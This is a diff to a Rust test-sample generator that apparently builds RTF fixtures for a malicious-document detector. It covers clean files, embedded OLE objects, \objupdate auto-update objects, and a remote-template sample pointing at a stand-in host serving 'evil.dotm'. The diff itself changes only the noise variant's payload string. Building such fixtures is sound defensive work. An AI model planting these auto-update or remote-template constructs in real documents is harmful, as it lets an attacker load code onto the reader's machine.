@@ -293,7 +293,7 @@ pub fn samples() -> Vec<(&'static str, Vec<u8>)> {
         ("rtf-clean.rtf", rtf(&marker("rtf-clean"), "")),
         ("rtf-package.rtf", object("rtf-package", "", "")),
         ("rtf-autoupdate.rtf", object("rtf-autoupdate", "\\objupdate", "")),
-        ("rtf-noise.rtf", object("rtf-noise", "\\objupdate", "{\\*\\noise 1}\\par1 ")),
+        ("rtf-noise.rtf", object("rtf-noise", "\\objupdate", "\\par\\b0 ")),
         ("rtf-template.rtf", rtf(&marker("rtf-template"), "{\\*\\template http://template.example/evil.dotm}")),
     ]
 }
